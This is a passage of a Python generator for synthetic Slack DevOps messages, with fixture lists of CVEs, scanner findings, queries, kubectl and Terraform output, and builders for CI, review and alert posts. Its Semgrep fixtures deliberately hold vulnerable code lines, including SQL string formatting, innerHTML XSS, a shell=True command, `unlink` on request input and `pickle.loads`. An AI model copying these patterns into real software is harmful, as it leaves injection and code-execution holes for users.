     "binary being run, and thus reveal the source code of scripts, run arbitrary PHP code on the server, etc."),
    ("CVE-2023-44487", "golang.org/x/net", "0.15.0", "0.17.0", "High",
     "The HTTP/2 protocol allows a denial of service (server resource consumption) because request cancellation "
     "can reset many streams quickly, as exploited in the wild in August through October 2023."),
    ("CVE-2022-22965", "spring-beans", "5.3.17", "5.3.18", "Critical",
     "A Spring MVC or Spring WebFlux application running on JDK 9+ may be vulnerable to remote code execution "
     "(RCE) via data binding. The specific exploit requires the application to run on Tomcat as a WAR "
     "deployment."),
    ("CVE-2024-3094", "xz-utils", "5.6.0-0.2", "5.4.5-0.3", "Critical",
     "Malicious code was discovered in the upstream tarballs of xz, starting with version 5.6.0. Through a "
     "series of complex obfuscations, the liblzma build process extracts a prebuilt object file from a "
     "disguised test file existing in the source code, which is then used to modify specific functions in "
     "the liblzma code."),
    ("CVE-2021-41773", "httpd", "2.4.49", "2.4.51", "High",
     "A flaw was found in a change made to path normalization in Apache HTTP Server 2.4.49. An attacker could "
     "use a path traversal attack to map URLs to files outside the directories configured by Alias-like "
     "directives. If files outside of these directories are not protected by the usual default configuration "
     "\"require all denied\", these requests can succeed."),
    ("CVE-2022-42889", "commons-text", "1.9", "1.10.0", "Critical",
     "Apache Commons Text performs variable interpolation, allowing properties to be dynamically evaluated and "
     "expanded. Starting with version 1.5 and continuing through 1.9, the set of default Lookup instances "
     "included interpolators that could result in arbitrary code execution or contact with remote servers."),
    ("CVE-2023-38545", "curl", "8.3.0", "8.4.0", "High",
     "This flaw makes curl overflow a heap based buffer in the SOCKS5 proxy handshake. When curl is asked to "
     "pass along the host name to the SOCKS5 proxy to allow that to resolve the address instead of it getting "
     "done by curl itself, the maximum length that host name can be is 255 bytes."),
    ("CVE-2024-6387", "openssh-server", "1:9.2p1-2", "1:9.2p1-2+deb12u3", "High",
     "A security regression (CVE-2006-5051) was discovered in OpenSSH's server (sshd). There is a race "
     "condition which can lead sshd to handle some signals in an unsafe manner. An unauthenticated, remote "
     "attacker may be able to trigger it by failing to authenticate within a set time period."),
    ("CVE-2022-24999", "qs", "6.5.2", "6.5.3", "High",
     "qs before 6.10.3, as used in Express before 4.17.3 and other products, allows attackers to cause a Node "
     "process hang for an Express application because an __proto__ key can be used."),
    ("CVE-2023-50164", "struts2-core", "2.5.30", "2.5.33", "Critical",
     "An attacker can manipulate file upload params to enable paths traversal and under some circumstances "
     "this can lead to uploading a malicious file which can be used to perform a Remote Code Execution."),
    ("CVE-2024-24790", "stdlib", "1.22.3", "1.22.4", "Critical",
     "The various Is methods (IsPrivate, IsLoopback, etc) did not work as expected for IPv4-mapped IPv6 "
     "addresses, returning false for addresses which would return true in their traditional IPv4 forms."),
    ("CVE-2023-29017", "vm2", "3.9.14", "3.9.15", "Critical",
     "vm2 is a sandbox that can run untrusted code with whitelisted Node's built-in modules. Prior to version "
     "3.9.15, vm2 was not properly handling host objects passed to Error.prepareStackTrace in case of unhandled "
     "async errors. A threat actor could bypass the sandbox protections to gain remote code execution rights."),
]
SEMGREP = [
    ("python.lang.security.audit.formatted-sql-query.formatted-sql-query",
     "Detected possible formatted SQL query. Use parameterized queries instead.",
     "app/reports/export.py", "cur.execute(\"SELECT * FROM invoices WHERE team_id = '%s'\" % team_id)"),
    ("javascript.browser.security.insecure-document-method.insecure-document-method",
     "User controlled data in methods like `innerHTML`, `outerHTML` or `document.write` is an anti-pattern "
     "that can lead to XSS vulnerabilities",
     "web/src/widgets/banner.js", "el.innerHTML = '<span class=\"greeting\">Hi ' + user.name + '</span>';"),
    ("python.lang.security.audit.subprocess-shell-true.subprocess-shell-true",
     "Found 'subprocess' function 'run' with 'shell=True'. This is dangerous because this call will spawn the "
     "command using a shell process.",
     "tools/unpack.py", "subprocess.run(f\"tar -xzf {archive} -C {dest}\", shell=True, check=True)"),
    ("java.lang.security.audit.xxe.documentbuilderfactory-disallow-doctype-decl-missing",
     "DOCTYPE declarations are enabled for this DocumentBuilderFactory. This is vulnerable to XML external "
     "entity attacks. Disable this by setting the feature http://apache.org/xml/features/disallow-doctype-decl "
     "to true.",
     "ledger-core/src/main/java/com/acme/ledger/CamtParser.java",
     "DocumentBuilder db = DocumentBuilderFactory.newInstance().newDocumentBuilder();"),
    ("go.lang.security.audit.net.use-tls.use-tls", "Found an HTTP server without TLS. Use 'http.ListenAndServeTLS'.",
     "cmd/metrics/main.go", "log.Fatal(http.ListenAndServe(\":9102\", mux))"),
    ("python.flask.security.audit.render-template-string.render-template-string",
     "Found a template created with string formatting. This is susceptible to server-side template injection "
     "and cross-site scripting attacks.",
     "app/views/preview.py", "return render_template_string(\"<h1>Preview of \" + title + \"</h1>\")"),
    ("javascript.lang.security.audit.path-traversal.path-join-resolve-traversal",
     "Detected possible user input going into a `path.join` or `path.resolve` function. This could possibly "
     "lead to a path traversal vulnerability.",
     "server/routes/files.js", "res.sendFile(path.join(__dirname, 'uploads', req.params.name));"),
    ("php.lang.security.unlink-use.unlink-use",
     "Using user input when deleting files with `unlink()` is potentially dangerous.",
     "public/admin/cleanup.php", "unlink('/var/www/uploads/' . $_GET['file']);"),
    ("ruby.rails.security.audit.xss.avoid-html-safe.avoid-html-safe",
     "'html_safe()' annotates the given string as having been sanitized. If the string is user input, it "
     "could lead to XSS.",
     "app/helpers/comments_helper.rb", "\"<p>#{comment.body}</p>\".html_safe"),
    ("python.lang.security.deserialization.pickle.avoid-pickle",
     "Avoid using `pickle`, which is known to lead to code execution vulnerabilities.",
     "app/cache.py", "return pickle.loads(redis.get(key))"),
]
SLOW_QUERIES = [
    "SELECT o.id, o.total_cents, o.currency, c.email FROM orders o JOIN customers c ON c.id = o.customer_id "
    "WHERE o.created_at >= $1 AND o.status = ANY($2) ORDER BY o.created_at DESC LIMIT $3",
    "SELECT SQL_NO_CACHE * FROM events WHERE user_id = 48213 AND type IN ('click','view') "
    "ORDER BY created_at DESC LIMIT 20",
    "UPDATE inventory SET reserved = reserved + 1 WHERE sku = 'TSHIRT-BLK-M' AND reserved < on_hand",
    "SELECT count(*) FROM sessions WHERE expires_at < now() - interval '30 days'",
    "DELETE FROM audit_log WHERE created_at < '2023-01-01' AND team_id NOT IN (SELECT id FROM teams WHERE legal_hold)",
    "SELECT u.id, u.email, max(l.created_at) AS last_login FROM users u LEFT JOIN logins l ON l.user_id = u.id "
    "GROUP BY u.id, u.email HAVING max(l.created_at) < now() - interval '90 days' OR max(l.created_at) IS NULL",
    "SELECT * FROM products WHERE lower(name) LIKE '%usb-c%' OR description ILIKE '%usb-c%' ORDER BY rank DESC",
    "INSERT INTO daily_totals (day, team_id, total_cents) SELECT date_trunc('day', created_at), team_id, "
    "sum(total_cents) FROM orders WHERE created_at >= current_date - 1 GROUP BY 1, 2 "
    "ON CONFLICT (day, team_id) DO UPDATE SET total_cents = EXCLUDED.total_cents",
    "WITH recent AS (SELECT customer_id, count(*) AS n FROM orders WHERE created_at > now() - interval '7 days' "
    "GROUP BY customer_id) SELECT c.*, r.n FROM customers c JOIN recent r USING (customer_id) WHERE r.n > 10",
    "SELECT id, payload->>'type' AS kind, payload#>>'{data,object,id}' AS object_id FROM webhook_events "
    "WHERE payload @> '{\"livemode\": true}' AND processed_at IS NULL ORDER BY id LIMIT 500",
    "ALTER TABLE orders ADD COLUMN refunded_at timestamptz",
    "SELECT /* controller:admin/orders,action:index */ `orders`.* FROM `orders` WHERE `orders`.`deleted_at` IS "
    "NULL AND (`orders`.`note` LIKE '%gift%') ORDER BY `orders`.`id` DESC LIMIT 25 OFFSET 9975",
]
EXPLAINS = [
    """Limit  (cost=184302.10..184302.13 rows=12 width=96) (actual time=2401.090..2401.093 rows=9 loops=1)
  ->  Sort  (cost=184302.10..184302.13 rows=12 width=96) (actual time=2401.088..2401.090 rows=9 loops=1)
        Sort Key: o.created_at DESC
        ->  Seq Scan on orders o  (cost=0.00..184301.88 rows=12 width=96) (actual time=0.031..2401.01 rows=9)
              Filter: ((created_at >= '2024-06-20'::date) AND ((status)::text = ANY ('{pending,held}'::text[])))
              Rows Removed by Filter: 4831181
Planning Time: 0.412 ms
Execution Time: 2401.133 ms""",
    """# Time: 2024-06-21T20:05:12.412831Z
# User@Host: app[app] @ 10.0.4.21 [10.0.4.21]  Id: 4812
# Query_time: 12.402311  Lock_time: 0.000120 Rows_sent: 20  Rows_examined: 4831190
SET timestamp=«epoch»;""",
    """id | select_type | table  | type | possible_keys | key  | rows    | Extra
 1 | SIMPLE      | orders | ALL  | NULL          | NULL | 4831190 | Using where; Using filesort""",
    """Hash Join  (cost=1043.22..98211.70 rows=1480 width=64) (actual time=14.2..1912.7 rows=1311 loops=1)
  Hash Cond: (l.user_id = u.id)
  ->  Seq Scan on logins l  (cost=0.00..81233.10 rows=4402110 width=16)
  ->  Hash  (cost=812.10..812.10 rows=18490 width=56)
Buffers: shared hit=2210 read=40112
Execution Time: 1913.402 ms""",
]
KUBECTL = [
    """NAME                          READY   STATUS             RESTARTS        AGE
«svc»-7d9f8b6c4-xk2lp     0/1     CrashLoopBackOff   12 (2m ago)     41m
«svc»-7d9f8b6c4-q8wzn     1/1     Running            0               41m
«svc»-7d9f8b6c4-ttv5d     0/1     OOMKilled          3 (30s ago)     41m""",
    """Events:
  Type     Reason     Age                  From     Message
  ----     ------     ----                 ----     -------
  Normal   Pulled     12m (x5 over 15m)    kubelet  Container image "ghcr.io/acme/«svc»:v«ver»" already present
  Warning  BackOff    2m (x48 over 12m)    kubelet  Back-off restarting failed container app in pod \
«svc»-7d9f8b6c4-xk2lp_«env»(3f2a1c9b-7e4d-4f11-8a2b-5c6d7e8f9a0b)
  Warning  Unhealthy  90s (x20 over 14m)   kubelet  Readiness probe failed: Get "http://10.42.3.17:8080/readyz": \
context deadline exceeded""",
    """NAME       STATUS     ROLES    AGE    VERSION
ip-10-0-12-7.ec2.internal    Ready      <none>   12d    v1.29.3-eks-ae9a62a
ip-10-0-14-31.ec2.internal   NotReady   <none>   12d    v1.29.3-eks-ae9a62a
ip-10-0-17-2.ec2.internal    Ready      <none>   3h     v1.29.3-eks-ae9a62a""",
    """$ kubectl -n «env» get hpa «svc»
NAME     REFERENCE           TARGETS           MINPODS   MAXPODS   REPLICAS   AGE
«svc»    Deployment/«svc»    cpu: 184%/70%     3         12        12         204d""",
    """$ kubectl auth can-i --list --as=system:serviceaccount:«env»:«svc» -n «env»
Resources                                       Non-Resource URLs   Resource Names   Verbs
configmaps                                      []                  []               [get list watch]
secrets                                         []                  [«svc»-db]       [get]
selfsubjectaccessreviews.authorization.k8s.io   []                  []               [create]""",
]
TF_PLANS = [
    """  # aws_security_group_rule.ingress_https will be created
  + resource "aws_security_group_rule" "ingress_https" {
      + cidr_blocks       = ["0.0.0.0/0"]
      + from_port         = 443
      + protocol          = "tcp"
      + security_group_id = "sg-0a1b2c3d4e5f67890"
      + to_port           = 443
      + type              = "ingress"
    }

Plan: 1 to add, 0 to change, 0 to destroy.""",
    """  # module.rds.aws_db_instance.main will be updated in-place
  ~ resource "aws_db_instance" "main" {
        id                  = "«svc»-«env»"
      ~ instance_class      = "db.r6g.large" -> "db.r6g.xlarge"
      ~ apply_immediately   = false -> true
        # (41 unchanged attributes hidden)
    }

Plan: 0 to add, 1 to change, 0 to destroy.""",
    """  # aws_s3_bucket_policy.artifacts must be replaced
-/+ resource "aws_s3_bucket_policy" "artifacts" {
      ~ policy = jsonencode(
          ~ {
              ~ Statement = [
                  - { Action = "s3:*", Effect = "Allow", Principal = "*", Resource = "arn:aws:s3:::acme-artifacts/*" },
                  + { Action = "s3:GetObject", Effect = "Allow", Principal = { AWS = "arn:aws:iam::«account»:root" } },
                ]
            }
        )
    }""",
]


class _Gen:
    """Record builders sharing one seeded random.Random and the fixed workspace."""

    def __init__(self, seed: int = SEED) -> None:
        self.rng = random.Random(seed)
        self.clock = EPOCH
        self.serial = 0
        self.cur_team = TEAMS[0][0]  # the workspace of the record being built
        self.users = {team: [("U0" + _h(team + login, 8), name, login) for name, login in PEOPLE]
                      for team, _ in TEAMS}
        self.jeeves_user = {team: "U0" + _h("jeeves" + team, 9) for team, _ in TEAMS}
        self.apps = {name: _app(name) for name in [
            "GitHub", "GitHub Actions", "Jenkins", "CircleCI", "GitLab", "Buildkite", "Argo CD", "Atlantis",
            "Datadog", "Grafana", "Alertmanager", "PagerDuty", "incident.io", "Opsgenie", "Sentry", "New Relic",
            "Splunk", "UptimeRobot", "Jira Cloud", "Linear", "Snyk", "Dependabot", "Trivy", "Semgrep",
            "AWS Chatbot", "Falcosidekick", "gitleaks", "OWASP ZAP", "pganalyze", "Metabase", "dbt Cloud",
            "Google Cloud Monitoring", "Workflow Builder", "Stack Overflow", "Wiz", "Cloudflare", "Percona PMM"]}

    # ---- small random helpers ----
    def pick(self, seq: list[Any]) -> Any:
        return self.rng.choice(seq)

    def tick(self) -> int:
        self.clock += self.rng.randint(3, 97)
        return self.clock

    def ts(self, at: int | None = None) -> str:
        return f"{at if at is not None else self.tick()}.{self.rng.randint(0, 999999):06d}"

    def bid(self) -> str:
        chars = _ALNUM + "+/="
        return "".join(self.rng.choice(chars) for _ in range(self.rng.choice([3, 4, 5])))

    def sha(self, n: int = 40) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def ver(self) -> str:
        return f"{self.rng.randint(1, 4)}.{self.rng.randint(0, 24)}.{self.rng.randint(0, 12)}"

    def team(self) -> tuple[str, str]:
        team: tuple[str, str] = self.pick(TEAMS)
        self.cur_team = team[0]
        return team

    def channel(self, kind: str) -> tuple[str, str]:
        name = self.pick(CHANNELS[kind])
        return "C0" + _h("chan" + name, 9), name

    def person(self, team: str) -> tuple[str, str, str]:
        return self.pick(self.users[team])  # type: ignore[no-any-return]

    def trigger_id(self) -> str:
        return f"{self.rng.randint(10**12, 10**13 - 1)}.{self.rng.randint(10**9, 10**10 - 1)}.{self.sha(32)}"

    def hook(self, team: str, kind: str) -> str:
        tail = "".join(self.rng.choice(_ALNUM) for _ in range(24))
        return f"https://hooks.slack.com/{kind}/{team}/{self.rng.randint(10**12, 10**13 - 1)}/{tail}"

    def values(self) -> dict[str, str]:
        return {"svc": self.pick(SERVICES), "env": self.pick(ENVS), "line": str(self.rng.randint(12, 480)),
                "ver": self.ver(), "account": self.pick(ACCOUNTS), "mod": self.pick(["app", "worker", "orders",
                                                                                      "billing", "search"]),
                "cur": self.pick(["EUR", "USD", "JPY", "GBP"]), "epoch": str(self.clock), "sha": self.sha(7),
                "n": str(self.rng.randint(200, 4800)), "branch": self.pick(BRANCHES), "region": self.pick(REGIONS)}

    def fill(self, template: str, values: dict[str, str] | None = None) -> str:
        return _fill(template, values or self.values())

    # ---- Block Kit and attachments ----
    @staticmethod
    def mrkdwn(text: str) -> Doc:
        return {"type": "mrkdwn", "text": text, "verbatim": False}

    @staticmethod
    def plain(text: str) -> Doc:
        return {"type": "plain_text", "text": text, "emoji": True}

    def section(self, text: str, fields: list[str] | None = None, accessory: Doc | None = None) -> Doc:
        block: Doc = {"type": "section", "block_id": self.bid(), "text": self.mrkdwn(text)}
        if fields:
            block["fields"] = [self.mrkdwn(f) for f in fields]
        if accessory:
            block["accessory"] = accessory
        return block

    def header(self, text: str) -> Doc:
        return {"type": "header", "block_id": self.bid(), "text": self.plain(text[:150])}

    def context(self, *texts: str) -> Doc:
        return {"type": "context", "block_id": self.bid(), "elements": [self.mrkdwn(t) for t in texts]}

    def divider(self) -> Doc:
        return {"type": "divider", "block_id": self.bid()}

    def rich(self, intro: str, code: str, outro: str = "") -> Doc:
        elements: list[Doc] = []
        if intro:
            elements.append({"type": "rich_text_section", "elements": [{"type": "text", "text": intro}]})
        elements.append({"type": "rich_text_preformatted", "elements": [{"type": "text", "text": code}],
                         "border": 0})
        if outro:
            elements.append({"type": "rich_text_section", "elements": [
                {"type": "text", "text": outro, "style": {"italic": True}}]})
        return {"type": "rich_text", "block_id": self.bid(), "elements": elements}

    def rich_quote(self, lead: str, quoted: str, code_inline: str = "") -> Doc:
        section: list[Doc] = [{"type": "text", "text": lead, "style": {"bold": True}}]
        if code_inline:
            section += [{"type": "text", "text": " "}, {"type": "text", "text": code_inline, "style": {"code": True}}]
        return {"type": "rich_text", "block_id": self.bid(), "elements": [
            {"type": "rich_text_section", "elements": section},
            {"type": "rich_text_quote", "elements": [{"type": "text", "text": quoted}]}]}

    def table(self, rows: list[list[str]]) -> Doc:
        return {"type": "table", "block_id": self.bid(),
                "rows": [[{"type": "raw_text", "text": cell} for cell in row] for row in rows]}

    def buttons(self, *pairs: tuple[str, str]) -> Doc:
        return {"type": "actions", "block_id": self.bid(), "elements": [
            {"type": "button", "action_id": self.bid() + self.bid(), "text": self.plain(label), "url": url}
            for label, url in pairs]}

    def attachment(self, n: int, color: str, fallback: str, **kw: Any) -> Doc:
        att: Doc = {"id": n, "color": color, "fallback": fallback}
        for key, value in kw.items():
            if value is None:
                continue
            if key == "fields":
                att["fields"] = [{"title": t, "value": v, "short": s} for t, v, s in value]
            else:
                att[key] = value
        att.setdefault("mrkdwn_in", ["text", "pretext", "fields"])
        return att

    # ---- content generators: each returns a post {"app", "text", "attachments", "blocks"} ----
    def post_ci(self) -> Doc:
        v = self.values()
        tool = self.pick(["GitHub Actions", "Jenkins", "CircleCI", "GitLab", "Buildkite", "Argo CD"])
        repo = f"acme/{self.pick(REPOS)}"
        branch, sha, run = v["branch"], self.sha(), self.rng.randint(1200, 98000)
        name, login = self.pick(PEOPLE)
        status = self.rng.choices(["failed", "passed", "cancelled", "fixed"], [5, 3, 1, 1])[0]
        dur = f"{self.rng.randint(0, 24)}m {self.rng.randint(0, 59)}s"
        title = self.pick(PR_TITLES)
        url = {"GitHub Actions": f"https://github.com/{repo}/actions/runs/{self.rng.randint(9 * 10**9, 10**10)}",
               "Jenkins": f"https://jenkins.acme.dev/job/{repo.split('/')[1]}/job/{urllib.parse.quote(branch, '')}/"
                          f"{run}/console",
               "CircleCI": f"https://app.circleci.com/pipelines/github/{repo}/{run}/workflows/{self.sha(8)}-"
                           f"{self.sha(4)}-{self.sha(4)}-{self.sha(4)}-{self.sha(12)}",
               "GitLab": f"https://gitlab.acme.dev/{repo}/-/pipelines/{run}",
               "Buildkite": f"https://buildkite.com/acme/{repo.split('/')[1]}/builds/{run}#{self.sha(8)}",
               "Argo CD": f"https://argocd.acme.dev/applications/argocd/{v['svc']}-{v['env']}?view=tree&resource="
               }[tool]
        color = {"failed": "danger", "passed": "good", "cancelled": "#9e9e9e", "fixed": "#2eb67d"}[status]
        log = self.fill(self.pick(BUILD_LOGS), v)
        step = self.pick(STEP_NAMES)
        text = f"{tool}: {repo} {branch} #{run} {status}"
        if self.rng.random() < 0.5:
            fields = [("Repository", f"<https://github.com/{repo}|{repo}>", True), ("Branch", f"`{branch}`", True),
                      ("Commit", f"<https://github.com/{repo}/commit/{sha}|{sha[:7]}>", True),
                      ("Author", f"{name} ({login})", True), ("Duration", dur, True),
                      ("Workflow", self.pick(["CI", "build-and-push", "e2e", "release", "nightly"]), True)]
            body = (f"*{_esc(title)}*\nFailed step: `{_esc(step)}`\n```{_esc(log)}```" if status == "failed"
                    else f"*{_esc(title)}*")
            att = self.attachment(1, color, f"[{repo}] {status}: #{run} {title}", pretext=f"Build <{url}|#{run}> "
                                  f"*{status}* on `{branch}`", title=f"{repo} #{run}", title_link=url, text=body,
                                  fields=fields, footer=tool, footer_icon=self.apps[tool]["icon"], ts=self.clock)
            return {"app": tool, "text": "", "attachments": [att], "blocks": None}
        trigger = self.pick(['push', 'pull_request', 'schedule', 'workflow_dispatch', 'merge_group'])
        emoji = {"failed": ":x:", "passed": ":white_check_mark:", "cancelled": ":no_entry_sign:", "fixed": ":tada:"}
        blocks = [self.section(f"{emoji[status]} *<{url}|{repo} #{run}>* "
                               f"{status} on `{branch}`",
                               [f"*Commit*\n<https://github.com/{repo}/commit/{sha}|`{sha[:7]}`> {_esc(title)}",
                                f"*Author*\n{name}", f"*Duration*\n{dur}", f"*Trigger*\n{trigger}"])]
        if status == "failed":
            blocks.append(self.rich(f"{step} exited with a non-zero code:", log))
        blocks.append(self.context(f"<{url}|View run> · {tool} · <!date^{self.clock}^{{date_short_pretty}} at "
                                   f"{{time}}|{self.clock}>"))
        if self.rng.random() < 0.4:
            blocks.append(self.buttons(("View logs", url), ("Open PR", f"https://github.com/{repo}/pull/"
                                                                       f"{self.rng.randint(100, 4000)}")))
        return {"app": tool, "text": text, "attachments": None, "blocks": blocks}

    def post_tests(self) -> Doc:
        v = self.values()
        runner, template = self.pick(TEST_FAILURES)
        out = self.fill(template, v)
        repo = f"acme/{self.pick(REPOS)}"
        failed, total = self.rng.randint(1, 9), self.rng.randint(80, 2400)
        tool = self.pick(["GitHub Actions", "Buildkite", "CircleCI", "Jenkins", "GitLab", "Datadog"])
        url = f"https://github.com/{repo}/actions/runs/{self.rng.randint(9 * 10**9, 10**10)}/job/" \
              f"{self.rng.randint(10**10, 10**11)}"
        flaky = self.rng.random() < 0.25
        head = (f"Flaky test detected in {repo}: failed {self.rng.randint(2, 6)} of 20 runs" if flaky else
                f"{failed} of {total} tests failed in {repo} ({v['branch']})")
        if self.rng.random() < 0.3:
            att = self.attachment(1, "#e01e5a", head, title=head, title_link=url,
                                  text=f"```{_esc(out)}```", fields=[("Runner", runner, True),
                                                                    ("Commit", v["sha"], True)],
                                  footer=f"{tool} test report", ts=self.clock)
            return {"app": tool, "text": "", "attachments": [att], "blocks": None}
        blocks: list[Doc] = [self.header(head), self.rich("", out)]
        if self.rng.random() < 0.5:
            rows = [["Suite", "Passed", "Failed", "Skipped", "Time"]]
            for suite in self.rng.sample(["api", "models", "e2e", "workers", "web", "ledger", "auth"], 3):
                rows.append([suite, str(self.rng.randint(20, 600)), str(self.rng.randint(0, 4)),
                             str(self.rng.randint(0, 9)), f"{self.rng.uniform(1, 300):.1f}s"])
            blocks.append(self.table(rows))
        blocks.append(self.context(f"{runner} · <{url}|job log> · commit `{v['sha']}`"))
        return {"app": tool, "text": head, "attachments": None, "blocks": blocks}

    def post_review(self) -> Doc:
        v = self.values()
        repo = f"acme/{self.pick(REPOS)}"
        num = self.rng.randint(100, 4200)
        path, hunk = self.pick(DIFFS)
        title = self.pick(PR_TITLES)
        name, login = self.pick(PEOPLE)
        reviewer = self.pick(PEOPLE)[1]
        pr_url = f"https://github.com/{repo}/pull/{num}"
        app = self.pick(["GitHub", "GitHub", "GitLab", "GitHub"])
        mode = self.rng.randrange(4)
        diff = (f"diff --git a/{path} b/{path}\nindex {self.sha(7)}..{self.sha(7)} 100644\n"
                f"--- a/{path}\n+++ b/{path}\n{hunk}")
        if mode == 0:
            adds, dels = self.rng.randint(1, 400), self.rng.randint(0, 300)
            att = self.attachment(1, "#2eb886", f"[{repo}] Pull request opened: #{num} {title}",
                                  pretext=f"Pull request opened by <https://github.com/{login}|{login}>",
                                  title=f"#{num} {title}", title_link=pr_url,
                                  text=f"{_esc(self.pick(['Fixes', 'Closes', 'Part of']))} OPS-{v['n']}.\n\n"
                                       f"```{_esc(hunk)}```",
                                  fields=[("Reviewers", f"@{reviewer}", True), ("Changes", f"+{adds} −{dels}", True),
                                          ("Labels", self.pick(["security", "bug", "dependencies", "infra",
                                                                "needs-review"]), True)],
                                  footer=f"<https://github.com/{repo}|{repo}>", ts=self.clock)
            return {"app": app, "text": "", "attachments": [att], "blocks": None}
        if mode == 1:
            line = self.rng.randint(10, 200)
            comment = self.pick([
                "This still builds the query with an f-string two lines below; can we pass params there too?",
                "nit: `set -euo pipefail` breaks `grep -c` returning 1 when nothing matches, wrap it in `|| true`",
                "Could we use `textContent` instead? `innerHTML` with the query string worries me.",
                "LGTM once CI is green. Please squash the `wip` commits.",
                "Does `../` in the name still get rejected after this change? Add a test for `%2e%2e%2f` too.",
                "Why `0.0.0.0/0` here? I thought this SG was for the internal ALB only.",
                "`CREATE INDEX CONCURRENTLY` can't run inside a transaction; alembic wraps it by default.",
                "We should keep `<details>` collapsed by default in the template, the logs are huge."])
            verdict = self.pick(['Review requested', 'Changes requested', 'Commented', 'Approved'])
            blocks = [self.section(f"*{login}* commented on <{pr_url}#discussion_r{self.rng.randint(10**9, 2 * 10**9)}"
                                   f"|#{num} {_esc(title)}>"),
                      self.rich_quote(f"{path} line {line}", comment, self.pick(["suggestion", "", "nit"])),
                      self.rich("", hunk),
                      self.context(f"<https://github.com/{repo}|{repo}> · {verdict}")]
            return {"app": app, "text": f"{login} commented on #{num}", "attachments": None, "blocks": blocks}
        if mode == 2:
            n = self.rng.randint(1, 5)
            lines = []
            for _ in range(n):
                msg = self.fill(self.pick(COMMIT_MSGS), v).split("\n")[0]
                lines.append(f"<https://github.com/{repo}/commit/{self.sha()}|`{self.sha(7)}`> {_esc(msg)} - "
                             f"{self.pick(PEOPLE)[0]}")
            text = f"[{repo}:{v['branch']}] {n} new commit{'s' if n > 1 else ''} by {name}"
            att = self.attachment(1, "#24292f", text, text="\n".join(lines), footer="GitHub", ts=self.clock)
            return {"app": app, "text": f"*<https://github.com/{repo}/compare/{self.sha(12)}...{self.sha(12)}|"
                                        f"{text}>*", "attachments": [att], "blocks": None}
        blocks = [self.header(f"Review requested: #{num}"),
                  self.section(f"*<{pr_url}|{_esc(title)}>*\n{name} wants to merge {self.rng.randint(1, 12)} commits "
                               f"into `main` from `{v['branch']}`",
                               accessory={"type": "button", "action_id": self.bid(), "text": self.plain("Review"),
                                          "url": pr_url + "/files"}),
                  self.rich(f"{path}:", diff)]
        return {"app": app, "text": f"Review requested: {title}", "attachments": None, "blocks": blocks}

    def post_alert(self) -> Doc:
        v = self.values()
        source, query = self.pick(ALERT_QUERIES)
        query = self.fill(query, v)
        svc, env = v["svc"], v["env"]
        value = f"{self.rng.uniform(0.01, 99.0):.2f}"
        state = self.rng.choices(["Triggered", "Recovered", "Warn", "Re-Triggered"], [5, 3, 2, 1])[0]
        color = {"Triggered": "#e01e5a", "Recovered": "#2eb67d", "Warn": "#ecb22e", "Re-Triggered": "#e01e5a"}[state]
        title = self.pick([f"High 5xx rate on {svc}", f"p99 latency above SLO for {svc}", f"{svc} pods crashlooping",
                           f"Disk almost full on {env} nodes", f"Error logs spike in {svc}",
                           f"{svc}-{env} RDS CPU high", f"Ingress 4xx/5xx for {svc}"])
        app = {"Datadog": "Datadog", "Prometheus": "Alertmanager", "Loki": "Grafana", "Grafana": "Grafana",
               "New Relic": "New Relic", "Kibana": "Opsgenie", "Splunk": "Splunk", "CloudWatch": "AWS Chatbot"}[source]
        dash = self.link_dashboard(svc, env, query)
        if app == "Alertmanager":
            gen = "http://prometheus-k8s.monitoring.svc:9090/graph?g0.expr=" + urllib.parse.quote(query, "") + \
                  "&g0.tab=1"
            pod = f"{svc}-{self.sha(9)}-{self.sha(5)}"
            firing = "RESOLVED" if state == "Recovered" else f"FIRING:{self.rng.randint(1, 6)}"
            text = (f"*Alert:* {title} - `{self.pick(['critical', 'warning'])}`\n*Description:* Pod {env}/{pod} "
                    f"({svc}) is in waiting state (reason: \"CrashLoopBackOff\").\n*Details:*\n"
                    f"  • *alertname:* `{title.replace(' ', '')}`\n  • *namespace:* `{env}`\n  • *pod:* `{pod}`\n"
                    f"  • *expr:* `{_esc(query)}`\n*Runbook:* <https://runbooks.acme.dev/{svc}/alerts|:notebook:>")
            att = self.attachment(1, color, f"[{firing}] {title}", title=f"[{firing}] {title} ({env} {svc})",
                                  title_link=gen, text=text, footer="Alertmanager", ts=self.clock)
            return {"app": app, "text": "", "attachments": [att], "blocks": None}
        if self.rng.random() < 0.5:
            att = self.attachment(1, color, f"[{state}] {title}", author_name=source,
                                  title=f"[{state}] {title}", title_link=dash,
                                  text=f"{_esc(title)} is {value} ({'above' if state != 'Recovered' else 'back below'} "
                                       f"the threshold) over the last 5m.\n```{_esc(query)}```\n"
                                       f"@pagerduty-{svc.title().replace('-', '')} @slack-alerts-{env}",
                                  fields=[("Service", svc, True), ("Env", env, True), ("Value", value, True),
                                          ("Monitor", f"#{self.rng.randint(10**6, 10**8)}", True)],
                                  footer=f"{source} · {self.pick(['team:payments', 'team:platform', 'team:core'])}",
                                  ts=self.clock)
            return {"app": app, "text": "", "attachments": [att], "blocks": None}
        blocks = [self.header(f"[{state}] {title}"),
                  self.section(f"*{_esc(source)} query*\n`{_esc(query)}`",
                               [f"*Threshold*\n{self.pick(['> 0.05', '> 1.5 s', '>= 1', '< 10 %', '> 90 %'])}",
                                f"*Current*\n{value}", f"*Env*\n`{env}`", f"*Since*\n<!date^{self.clock - 600}^"
                                f"{{time}}|10 minutes ago>"]),
                  self.buttons(("Dashboard", dash), ("Silence 1h", "https://alerts.acme.dev/silences/new?filter="
                                                     + urllib.parse.quote(f'{{alertname="{title}",env="{env}"}}', ""))),
                  self.context(f"{source} · <{dash}|open in {source}>")]
        return {"app": app, "text": f"[{state}] {title}", "attachments": None, "blocks": blocks}

    def link_dashboard(self, svc: str, env: str, query: str) -> str:
        kind = self.rng.randrange(4)
        if kind == 0:
            return ("https://grafana.acme.dev/d/aBc12dE/api-overview?" + urllib.parse.urlencode(
                [("orgId", "1"), ("var-env", env), ("var-service", svc), ("from", "now-6h"), ("to", "now"),
                 ("viewPanel", str(self.rng.randint(2, 40)))]))
        if kind == 1:
            return ("https://app.datadoghq.com/monitors/" + str(self.rng.randint(10**7, 10**8)) + "?" +
                    urllib.parse.urlencode([("from_ts", f"{self.clock - 3600}000"), ("to_ts", f"{self.clock}000"),
                                            ("live", "true")]))
        if kind == 2:
            return ("https://grafana.acme.dev/explore?orgId=1&left=" + urllib.parse.quote(json.dumps(
                {"datasource": "prometheus", "queries": [{"refId": "A", "expr": query}],
                 "range": {"from": "now-1h", "to": "now"}}, separators=(",", ":")), safe=":,"))
